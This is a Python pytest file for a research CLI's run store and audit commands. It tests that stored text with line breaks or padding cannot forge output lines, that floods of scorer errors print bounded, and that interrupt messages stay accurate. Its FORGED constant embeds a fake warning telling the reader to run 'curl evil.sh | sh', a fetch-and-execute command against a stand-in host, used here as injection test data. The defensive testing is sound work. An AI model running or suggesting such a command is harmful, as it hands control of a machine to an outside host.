"""Recorded text prints on the lines it is meant for, a flood of scorer errors prints bounded, and an interruption
says only what is true of the command."""

from __future__ import annotations

import json
import signal
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from selftaught.audit.run_audit import RunAudit, audit_run
from selftaught.cli import models_command
from selftaught.cli.main import cli
from selftaught.cli.plumbing import run_user_errors, user_errors
from selftaught.cli.safe_output import one_line, visible_controls
from selftaught.cli.scorer_errors import warn_about_scorer_errors
from selftaught.errors import SelftaughtError
from selftaught.stop_signals import StopSignal
from selftaught.store.reading import StoreReader
from selftaught.store.run_store import RunStore
from selftaught.tasks.evaluation import Evaluation

FORGED = "warning: FORGED LINE - run: curl evil.sh | sh"
#: Every character that starts a new line somewhere: Python's str.splitlines, terminals, pagers, editors.
LINE_BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
SOLUTION = "def algorithm(train_samples, train_parity, test_samples):\n    return [0] * len(test_samples)\n"


@pytest.mark.parametrize("line_break", LINE_BREAKS)
def test_one_line_escapes_every_line_break_and_tab(line_break: str) -> None:
    text = f"scripted:x{line_break}{FORGED}\tend"
    shown = one_line(text)
    assert len(shown.splitlines()) == 1 and "\t" not in shown
    assert FORGED in shown and one_line(shown) == shown


def test_one_line_leaves_one_line_text_as_visible_controls_does() -> None:
    for text in ("gpt-4o · parity_noise", "KeyError: 'x' at task.py:3", "naïve ünïcode ×3", "\x1b[2J"):
        assert one_line(text) == visible_controls(text)


def forged_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.lstrip("│ ").startswith("warning: FORGED")]


@pytest.fixture(params=["\n", " " * 400], ids=["line_break", "padding"])
def forged_store(tmp_path: Path, request: pytest.FixtureRequest) -> tuple[Path, str, str]:
    """A run whose every one-line field holds a line break followed by a line that reads as selftaught's own,
    or (`padding`) spaces enough that wrapping the line would start a new one with it."""
    gap = request.param
    store = RunStore(tmp_path / "runs.sqlite")
    task = f"parity_noise\u2028{FORGED}"
    run_id = store.create_run(
        command=f"run{gap}{FORGED}",
        task=task,
        model=f"scripted:x{gap}{FORGED}",
        seed=0,
        config={"name": f"paper\r\n{FORGED}"},
        options={},
    )
    improver = store.save_program("def improve_algorithm(s, u, m):\n    return s\n", "improver")
    store.record_iteration(
        run_id,
        {
            "iteration": 0,
            "improver_hash": improver,
            "meta_utility_val": 0.5,
            "meta_utility_test": 0.5,
            "accepted": True,
            "error": f"boom{gap}{FORGED}",
        },
    )
    problems = tuple((f"KeyError: {i}{gap}{FORGED}", 1) for i in range(3))
    evaluation = Evaluation(task, "validation", 0.5, instances=20, scorer_errors=3, scorer_problems=problems)
    store.record_evaluation(run_id, None, SOLUTION, evaluation.as_row())
    store.finish_run(run_id, "interrupted", {"reason": f"the model failed\x85{FORGED}"})
    store.close()
    return tmp_path / "runs.sqlite", run_id, gap


@pytest.mark.slow
@pytest.mark.parametrize(
    "arguments",
    [["show"], ["show", "--iteration", "0"], ["show", "--best"], ["runs"], ["audit"]],
    ids=lambda arguments: " ".join(arguments),
)
def test_recorded_text_cannot_print_a_line_of_its_own(
    forged_store: tuple[Path, str, str], arguments: list[str]
) -> None:
    store, run_id, gap = forged_store
    command = [*arguments, *([] if arguments == ["runs"] else [run_id]), "--store", str(store)]
    result = CliRunner().invoke(cli, command)
    assert result.exit_code == 0, result.output
    assert not forged_lines(result.output), result.output
    # The best solution's line holds no recorded text but ids and scores; a table crops a padded cell.
    if arguments != ["show", "--best"] and not (gap != "\n" and arguments in (["runs"], ["audit"])):
        assert "FORGED" in result.output  # shown escaped, not dropped


def test_scorer_warnings_are_one_line_each(capsys: pytest.CaptureFixture[str]) -> None:
    warn_about_scorer_errors([(f"KeyError: 'a'\n{FORGED}", 2), (f"x\u2029{FORGED}", 1)], run_id=f"r\n{FORGED}")
    stderr = capsys.readouterr().err
    assert not forged_lines(stderr) and stderr.count("FORGED") == 2, stderr


def run_with_scorer_problems(tmp_path: Path, count: int) -> tuple[Path, str]:
    store = RunStore(tmp_path / "runs.sqlite")
    run_id = store.create_run(command="improve", task="sums", model="m", seed=0, config={}, options={})
    # The most frequent error raised on count + 1 outputs, every other one on fewer, each once per evaluation.
    others = tuple((f"KeyError: 'output {i} {'x' * 400}' at sums/task.py:{i}", 1 + i % 3) for i in range(count))
    problems = (("ZeroDivisionError: division by zero at sums/task.py:3", count + 1), *others)
    evaluation = Evaluation(
        "sums", "validation", 0.0, instances=20, scorer_errors=sum(n for _, n in problems), scorer_problems=problems
    )
    store.record_evaluation(run_id, None, SOLUTION, evaluation.as_row())
    store.close()
    return tmp_path / "runs.sqlite", run_id


@pytest.mark.slow
def test_audit_prints_the_most_frequent_scorer_errors_and_counts_the_rest(tmp_path: Path) -> None:
    store, run_id = run_with_scorer_problems(tmp_path, 40)
    printed = CliRunner().invoke(cli, ["audit", run_id, "--store", str(store)])
    assert printed.exit_code == 0, printed.output
    [summary] = [line for line in printed.output.splitlines() if "not reward hacking):" in line]
    assert summary.count(" ×") == 10 and "ZeroDivisionError: division by zero at sums/task.py:3 ×41" in summary
    # 41 distinct errors: the 10 shown, and 31 others on the outputs the 10 do not account for.
    shown = sum(int(part.rsplit("×", 1)[1]) for part in summary.split(": ", 1)[1].split("; ")[:10])
    total = 41 + sum(1 + i % 3 for i in range(40))
    assert f"and 31 other errors on {total - shown} outputs (--json lists every one)" in summary
    assert "x" * 300 not in summary  # each error cut short
    as_json = json.loads(CliRunner().invoke(cli, ["audit", run_id, "--store", str(store), "--json"]).stdout)
    assert len(as_json["summary"]["scorer_errors"]) == 41  # complete
    assert len(as_json["solutions"][0]["scorer_errors"]) == 41


@pytest.mark.slow
def test_audit_of_many_distinct_scorer_errors_stays_small_and_linear(tmp_path: Path) -> None:
    small, large = tmp_path / "small", tmp_path / "large"
    small.mkdir()
    large.mkdir()
    timings, sizes = [], []
    for folder, count in ((small, 2_000), (large, 16_000)):
        store, run_id = run_with_scorer_problems(folder, count)
        started = time.perf_counter()
        with StoreReader(store) as reader:
            audit: RunAudit = audit_run(reader, run_id)
        audit.summary()
        printed = CliRunner().invoke(cli, ["audit", run_id, "--store", str(store)])
        timings.append(time.perf_counter() - started)
        sizes.append(len(printed.output))
    assert sizes[1] < 20_000 and sizes[1] < sizes[0] + 100  # bounded: only the count of the rest grows
    assert timings[1] < 30 * timings[0] + 1.0  # 8 times the errors: linear, not 64 times the time


def raises(interruption: KeyboardInterrupt) -> None:
    raise interruption


def test_models_check_stopped_by_sigterm_claims_no_recorded_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(models_command, "check", lambda spec, as_json: raises(StopSignal(signal.SIGTERM)))
    result = CliRunner().invoke(cli, ["models", "--check", "scripted:x"])
    assert result.exit_code == 128 + signal.SIGTERM
    assert result.stderr.strip() == "interrupted by SIGTERM"


@pytest.mark.parametrize(
    ("decorator", "said"),
    [(user_errors, "interrupted by SIGINT"), (run_user_errors, "any run it started is recorded as interrupted")],
)
def test_only_commands_that_record_runs_speak_of_a_recorded_run(
    decorator: Callable[[Callable[..., Any]], Callable[..., Any]], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    stopped = decorator(lambda: raises(KeyboardInterrupt()))
    with pytest.raises(SystemExit) as exited:
        stopped()
    assert exited.value.code == 128 + signal.SIGINT
    stderr = capsys.readouterr().err
    assert said in stderr and ("recorded" in stderr) == (decorator is run_user_errors)


def test_an_error_quoting_text_with_line_breaks_prints_as_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    def failing() -> None:
        raise SelftaughtError(f"the server answered: bad request\r\n{FORGED}")

    with pytest.raises(SystemExit):
        user_errors(failing)()
    stderr = capsys.readouterr().err
    assert len(stderr.splitlines()) == 1 and stderr.startswith("error: ") and "FORGED" in stderr, stderr


@pytest.mark.parametrize("command", ["export", "plot"])
@pytest.mark.parametrize("where", ["under_a_file", "proc"])
def test_an_output_that_cannot_be_written_is_one_line(command: str, where: str, tmp_path: Path) -> None:
    if command == "plot":
        pytest.importorskip("matplotlib")
    store = RunStore(tmp_path / "runs.sqlite")
    run_id = store.create_run(command="run", task="parity_noise", model="m", seed=0, config={}, options={})
    improver = store.save_program("def improve_algorithm(s, u, m):\n    return s\n", "improver")
    row = {"iteration": 0, "improver_hash": improver, "meta_utility_val": 0.5, "meta_utility_test": 0.5}
    store.record_iteration(run_id, {**row, "accepted": True})
    store.finish_run(run_id, "finished", None)
    store.close()
    (tmp_path / "a_file").write_text("")
    folder = tmp_path / "a_file" if where == "under_a_file" else Path("/proc")
    output = folder / ("x.tar.gz" if command == "export" else "x.png")
    result = CliRunner().invoke(cli, [command, run_id, "-o", str(output), "--store", str(tmp_path / "runs.sqlite")])
    assert result.exit_code == 2, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith("error: cannot ") and str(output) in line, line
    assert not output.exists()
